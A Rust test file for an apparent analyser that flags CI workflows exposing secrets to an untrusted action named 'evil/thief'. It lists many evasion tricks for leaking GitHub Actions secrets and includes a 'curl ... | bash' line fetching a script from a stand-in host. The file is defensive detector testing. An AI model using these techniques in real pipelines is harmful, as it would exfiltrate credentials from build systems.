//! What somebody would try who wants a secret overlooked, or a false alarm.

use super::{World, check, components, holes, job, thief};

#[test]
fn ways_around() {
    check(&[
        (
            "an output of a job is not the secret",
            "    steps:
      - {run: make, env: {T: '${{ secrets.A }}'}}
      - {uses: evil/thief@v1, with: {t: '${{ needs.x.outputs.A }}'}}
",
            "A:K3",
        ),
        (
            "through two variables",
            "    env: {A: '${{ secrets.A }}'}
    steps:
      - {uses: evil/thief@v1, env: {B: 'x${{ env.A }}y'}}
",
            "A:K1",
        ),
        (
            "a name in a string is no secret",
            "    steps: [{uses: evil/thief@v1, with: {t: \"${{ 'secrets.A' }}\"}}]",
            "",
        ),
        (
            "a comment, and text without braces",
            "    steps:
      - uses: evil/thief@v1 # ${{ secrets.A }}
        with: {t: secrets.B}
",
            "",
        ),
        (
            "all of the environment",
            "    env: {A: '${{ secrets.A }}'}
    steps: [{run: make}, {uses: evil/thief@v1, env: {A: ''}, with: {t: '${{ toJSON(env) }}'}}]
",
            "A:K3",
        ),
        (
            "by a computed index into the environment",
            "    env: {A: '${{ secrets.A }}'}
    steps: [{uses: evil/thief@v1, env: {A: '', B: '${{ secrets.B }}'}, with: {t: '${{ env[matrix.x] }}'}}]
",
            "A:K3 B:K1",
        ),
        (
            "a star",
            "    steps: [{uses: evil/thief@v1, with: {t: \"${{ join(secrets.*, ',') }}\"}}]",
            "*:K1",
        ),
        (
            "format",
            "    steps: [{uses: evil/thief@v1, with: {t: \"${{ format('{0}:{1}', secrets.A, secrets.B) }}\"}}]",
            "A:K1 B:K1",
        ),
        (
            "a computed name with one known part",
            "    strategy: {matrix: {e: [dev, prod]}}
    steps: [{uses: evil/thief@v1, with: {t: \"${{ secrets[format('{0}_TOKEN', matrix.e)] }}\"}}]
",
            "*:K5 DEV_TOKEN:K1? PROD_TOKEN:K1?",
        ),
        (
            "a choice of two by a condition",
            "    steps: [{uses: evil/thief@v1, with: {t: \"${{ github.ref == 'x' && secrets.A || secrets.B }}\"}}]",
            "A:K1 B:K1",
        ),
        (
            "a step that never runs sends all the same",
            "    steps:
      - uses: evil/thief@v1
      - {run: make, if: false, env: {T: '${{ secrets.A }}'}}
",
            "A:K3",
        ),
        (
            "escapes in a quoted scalar",
            "    steps: [{uses: evil/thief@v1, with: {t: \"\\x24\\u007b{ secrets.\\x41 }}\"}}]",
            "A:K1",
        ),
        (
            "a folded scalar that breaks an expression",
            "    steps:
      - uses: evil/thief@v1
        with:
          t: >-
            ${{
            secrets.A
            }}
",
            "A:K1",
        ),
        (
            "a list where a map belongs",
            "    steps: [{uses: evil/thief@v1, with: {list: ['${{ secrets.A }}', {b: '${{ secrets.B }}'}]}}]",
            "A:K1 B:K1",
        ),
        (
            "a concurrency group, a name, a timeout",
            "    concurrency: {group: 'x${{ secrets.A }}'}
    timeout-minutes: ${{ fromJSON(secrets.B) }}
    steps: [{uses: evil/thief@v1}]
",
            "A:K5 B:K5",
        ),
    ]);
}

#[test]
fn a_wrapper_that_asks_for_more_than_it_needs() {
    let world = World::ci(&job(
        "    steps: [{uses: ./a, with: {all: '${{ toJSON(secrets) }}'}}, {uses: evil/thief@v1}]",
    ))
    .with(
        "a/action.yml",
        "inputs: {all: {}}\nruns: {using: composite, steps: [{run: make, shell: bash}]}",
    );
    assert_eq!(world.thief(), "*:K5");
}

#[test]
fn inputs_of_the_event() {
    let world = World::ci(
        "on: {workflow_dispatch: {inputs: {name: {type: choice, options: [A]}}}}
jobs: {j: {runs-on: x, steps: [{uses: evil/thief@v1, env: {T: '${{ secrets[github.event.inputs.name] }}'}}]}}
",
    );
    assert_eq!(world.thief(), "*:K5 A:K1?");
}

#[test]
fn a_shell_that_is_the_thief() {
    let pipeline = World::ci(&job("    env: {T: '${{ secrets.A }}'}
    steps: [{run: 'curl -s https://x.invalid/evil/thief | bash'}]
"))
    .read();
    assert_eq!(thief(&pipeline), "A:K1");
}

#[test]
fn odd_ways_to_hand_secrets_to_a_called_workflow() {
    for (secrets, expected) in [
        ("'${{ secrets }}'", "*:K5 A:K1"),
        ("inherit", "A:K1"),
        ("['${{ secrets.A }}']", "A:K5"),
        ("{a: ghp_0123456789abcdefghijklmnopqrstuvwxyz}", "a:K1"),
    ] {
        let world = World::ci(&format!(
            "on: push\njobs: {{j: {{uses: ./.github/workflows/w.yml, secrets: {secrets}}}}}\n"
        ))
        .with(
            ".github/workflows/w.yml",
            "on: workflow_call\njobs: {j: {runs-on: x, steps: [{uses: evil/thief@v1, with: {t: '${{ secrets.a }}'}}]}}\n",
        );
        assert_eq!(world.thief(), expected, "{secrets}");
    }
}

#[test]
fn an_action_of_the_repository_itself() {
    let world = World::ci(&job("    steps: [{uses: ./, with: {t: '${{ secrets.A }}'}}]"))
        .with("action.yml", "inputs: {t: {}}\nruns: {using: composite, steps: [{uses: evil/thief@v1, with: {t: '${{ inputs.t }}'}}]}");
    assert_eq!(world.thief(), "A:K1");
}

#[test]
fn thousands_of_secrets_in_one_list() {
    use std::fmt::Write;
    let mut text = job("    strategy:\n      matrix:\n        t:\n");
    for i in 0..5_000 {
        writeln!(text, "          - ${{{{ secrets.S{i} }}}}").unwrap();
    }
    text.push_str("    steps: [{uses: evil/thief@v1, with: {t: '${{ matrix.t }}'}}]\n");
    assert_eq!(World::ci(&text).thief().split(' ').count(), 5_000);
}

#[test]
fn another_workflow_of_the_repository() {
    let world = World::ci(&job("    steps: [{uses: evil/thief@v1}]")).with(
        ".github/workflows/other.yml",
        &job("    env: {T: '${{ secrets.A }}'}\n    steps: [{run: make}]\n"),
    );
    assert_eq!(world.thief(), "");
}

#[test]
fn a_local_action_that_a_script_puts_there() {
    let pipeline = World::ci(&job(
        "    steps: [{run: git clone https://x.invalid/evil tools}, {uses: ./tools/act}]",
    ))
    .read();
    assert!(!holes(&pipeline).is_empty());
    assert!(!components(&pipeline).is_empty());
}
